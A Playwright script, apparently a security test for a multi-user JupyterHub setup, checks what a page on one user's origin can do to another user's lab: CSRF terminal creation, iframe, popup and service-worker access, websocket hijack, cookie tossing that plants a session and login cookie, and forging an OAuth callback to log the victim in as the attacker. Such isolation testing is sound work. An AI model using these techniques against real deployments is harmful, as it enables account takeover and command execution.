// What a page of bob's session can do to alice's in one real Chromium: node attack.mjs JSON, which has
// {portal, port, hub, alice, bob, links, spki}. Prints one JSON object: what each try came to.
import { createRequire } from "node:module";
import http from "node:http";
import https from "node:https";
import { fileURLToPath } from "node:url";

const require = createRequire(new URL("../../frontend/package.json", import.meta.url));
const { chromium } = require("playwright-core");
const given = JSON.parse(process.argv[2]);
const { portal, hub, alice, bob } = given;
const domain = new URL(hub).hostname;
const wss = (url) => url.replace(/^http/, "ws");
const seen = {};

const browser = await chromium.launch({
  executablePath: fileURLToPath(new URL("undisturbed.py", import.meta.url)),
  args: [
    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-popup-blocking", "--disable-background-networking",
    "--disable-component-update", "--disable-sync", ...(given.spki ? [`--ignore-certificate-errors-spki-list=${given.spki}`] : []),
  ],
});

async function loggedIn(name) {
  const context = await browser.newContext();
  context.setDefaultTimeout(60_000);
  const page = await context.newPage();
  await page.goto(given.links[name]);
  await page.getByTestId("template-jupyterlab").waitFor();
  return { context, page };
}

/** A request of alice's own page, as JupyterLab sends it; the status and what came. */
const own = (page, method, path) =>
  page.evaluate(async ([m, url]) => {
    const xsrf = (document.cookie.match(/_xsrf=([^;]+)/) ?? [])[1];
    const answer = await fetch(url, { method: m, headers: { "X-XSRFToken": xsrf } });
    return [answer.status, await answer.text()];
  }, [method, `${alice}${path}`]);
const terminals = async (page) => JSON.parse((await own(page, "GET", "/api/terminals"))[1]).length;
const socket = (page, url) =>
  page.evaluate((u) => new Promise((done) => {
    const opened = new WebSocket(u);
    opened.onopen = () => done("open");
    opened.onclose = () => done("refused");
  }), url);
/** Where alice ends when she opens her lab in a new tab. */
async function opens(context) {
  const page = await context.newPage();
  const answer = await page.goto(`${alice}/lab?${Math.random()}`);
  const found = `${answer.status()} ${page.url().split("?")[0]}`;
  await page.close();
  return found;
}

const { context, page: lab } = await loggedIn("alice");
await lab.goto(`${alice}/lab`);
seen.own_terminal = (await own(lab, "POST", "/api/terminals"))[0];
const { name: terminal } = JSON.parse((await own(lab, "GET", "/api/terminals"))[1])[0];
const channel = wss(`${alice}/terminals/websocket/${terminal}`);
seen.own_socket = await socket(lab, channel);
const before = await terminals(lab);

const page = await context.newPage();
await page.goto(`${bob}/pub/page.html`);
seen.bobs_origin = new URL(page.url()).host;
const tries = {
  read: (u) => fetch(`${u}/api/contents`, { credentials: "include" }).then((a) => `read ${a.status}`, () => "blocked"),
  post: (u) => fetch(`${u}/api/terminals`, { method: "POST", mode: "no-cors", credentials: "include" }).then(() => "sent", () => "blocked"),
  form: (u) => new Promise((done) => {
    const frame = Object.assign(document.createElement("iframe"), { name: "target" });
    const form = Object.assign(document.createElement("form"), { method: "POST", action: `${u}/api/terminals`, target: "target" });
    document.body.append(frame, form);
    frame.onload = () => frame.contentDocument === null && done("sent");
    form.submit();
  }),
  frame: (u) => new Promise((done) => {
    const frame = Object.assign(document.createElement("iframe"), { src: `${u}/lab` });
    frame.onload = () => done(frame.contentDocument === null ? "closed to bob" : `document ${frame.contentDocument.title}`);
    document.body.append(frame);
  }),
  document_domain: (u) => {
    document.domain = new URL(u).hostname.split(".").slice(1).join(".");
    return window.originAgentCluster ? "ignored" : "set";
  },
  worker: (u) => navigator.serviceWorker.register(`${u}/pub/worker.js`, { scope: `${u}/` }).then(() => "registered", (e) => e.name),
  worker_of_bob: (u) => navigator.serviceWorker.register("worker.js", { scope: `${u}/` }).then(() => "registered", (e) => e.name),
};
for (const [name, work] of Object.entries(tries)) seen[name] = await page.evaluate(work, alice).catch((e) => String(e).split("\n")[0]);
seen.socket = await socket(page, channel);
seen.read_hub = await page.evaluate((u) => fetch(`${u}/hub/api/user`, { credentials: "include" }).then(() => "read", () => "blocked"), hub);

const [popup] = await Promise.all([
  context.waitForEvent("page"),
  page.evaluate((u) => { window.opened = window.open(`${u}/lab`); }, alice),
]);
await popup.waitForURL(/\/lab/);
await popup.waitForLoadState();
seen.popup_is_alices = popup.url().startsWith(`${alice}/lab`);
seen.popup = await page.evaluate(() => {
  const attempt = (work) => { try { return work(); } catch (error) { return error.name; } };
  return [attempt(() => window.opened.document.title), attempt(() => window.opened.location.href), window.opened.closed];
});
await popup.close();
seen.terminals_more = (await terminals(lab)) - before;

// --- cookies that bob's server plants ---------------------------------------------------------------
const jar = async () => new Set((await context.cookies()).map((cookie) => `${cookie.name}@${cookie.domain}`));
async function plant(lines) {
  const had = await jar();
  await page.goto(`${bob}/pub/page.html?${lines.map((line) => `set=${encodeURIComponent(line)}`).join("&")}`);
  return [...(await jar())].filter((each) => !had.has(each));
}
const secure = hub.startsWith("https") ? "; Secure" : "";
const thief = await loggedIn("bob");
await thief.page.goto(`${bob}/lab`);
const login = (await thief.context.cookies()).find((cookie) => cookie.name.endsWith("jupyterhub-hub-login"));
seen.planted = {
  // The control: what is not guarded by the prefix is stored.
  plain: await plant([`tossed=1; Domain=${domain}; Path=/${secure}`]),
  prefixed: await plant([`__Host-jupyterhub-hub-login=1; Domain=${domain}; Path=/; Secure`]),
  alices: await plant([`tossed2=1; Domain=${new URL(alice).hostname}; Path=/`]),
};
await plant([
  `jupyterhub-hub-login=${login.value}; Domain=${domain}; Path=/hub/${secure}`,
  `jupyterhub-session-id=planted; Domain=${domain}; Path=/${secure}`,
]);
seen.lab_after_session_id = (await own(lab, "GET", "/api/terminals"))[0];
await context.clearCookies({ name: /user-alice/ });
seen.login_planted = await opens(context);

// Bob stops his own login before its last step and leads alice there, with his state planted.
const raw = (url, cookie = "") =>
  new Promise((done, failed) => {
    const to = new URL(url);
    const options = {
      host: "127.0.0.1", port: to.port, path: to.pathname + to.search, servername: to.hostname, rejectUnauthorized: false, headers: { Host: to.host, Cookie: cookie },
    };
    (to.protocol === "https:" ? https : http).request(options, (answer) => done(answer.resume())).on("error", failed).end();
  });
const begun = await raw(`${hub}/hub/oauth_login`);
const [, stateName, state] = begun.headers["set-cookie"].find((line) => line.includes("oauthenticator-state")).match(/^([^=]+)=([^;]*)/);
const atPortal = (await thief.context.cookies(`${portal}/api/oauth/authorize`)).map((each) => `${each.name}=${each.value}`).join("; ");
const callback = (await raw(begun.headers.location, atPortal)).headers.location;
seen.callback_has_code = callback.includes("code=");
await plant([stateName, "oauthenticator-state"].map((name) => `${name}=${state}; Domain=${domain}; Path=/hub/${secure}`));
const led = await context.newPage();
await led.goto(callback).catch(() => null);
await led.close();
await context.clearCookies({ name: /user-alice/ });
seen.login_forged = await opens(context);

console.log(JSON.stringify(seen));
await browser.close();
